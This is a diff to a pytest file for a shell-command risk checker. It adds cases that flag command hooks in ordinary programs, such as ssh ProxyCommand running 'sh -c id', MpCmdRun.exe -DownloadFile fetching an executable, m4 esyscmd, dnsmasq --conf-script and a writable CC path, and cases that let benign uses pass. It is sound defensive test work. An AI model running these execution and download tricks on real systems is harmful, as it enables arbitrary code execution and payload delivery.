@@ -84,3 +84,35 @@ def test_a_startup_file_written_by_any_program_asks(command: str) -> None:
 ])
 def test_reading_or_project_copies_of_startup_files_pass(command: str) -> None:
     assert "confirm.shell.persistence" not in rules(command)
+
+
+@pytest.mark.parametrize("command", [
+    'ssh -o ProxyCommand="sh -c id" build-host',  # a proxy that is not a tunnel program
+    "scp -S /tmp/helper.sh notes.txt build-host:",  # -S: the program run instead of ssh
+    'ssh localhost "cmd.exe /c whoami"',  # a command on this machine through ssh
+    "rustup toolchain link local /tmp/toolchain",
+    "MpCmdRun.exe -DownloadFile -url https://files.example.net/t.exe -path C:\\Users\\Public\\t.exe",
+    ". C:\\Windows\\diagnostics\\system\\AERO\\CL_Invocation.ps1",
+    "m4 -D 'x=esyscmd(id)' notes.m4",
+    "dnsmasq --conf-script='id'",
+    "zic -d out -y ./check.sh zones.txt",
+    "CC=/tmp/cc make",  # a compiler kept where anyone can write
+    'CRASHPAGER="sh -c id" crash -h',  # a program's own pager variable holding a command line
+])
+def test_command_hooks_of_ordinary_programs_ask(command: str) -> None:
+    assert assess(command).decision is not Decision.ALLOW
+
+
+@pytest.mark.parametrize("command", [
+    'ssh -o ProxyCommand="ssh -W %h:%p bastion" app-host',  # a jump host
+    'ssh -o ProxyCommand="nc -X 5 -x proxy.internal:1080 %h %p" app-host',
+    "ssh -p 2222 localhost",  # a login to a local container, no command
+    "rustup toolchain install stable",
+    "MpCmdRun.exe -Scan -ScanType 1",
+    ". ./scripts/env.sh",
+    "CC=clang make",  # compilers named by variable: an ordinary build
+    "CC=clang-15 CXX=clang++-15 cmake -S . -B build",
+    "EDITOR=vim git commit",
+])
+def test_ordinary_uses_of_the_same_programs_pass(command: str) -> None:
+    assert assess(command).decision is Decision.ALLOW
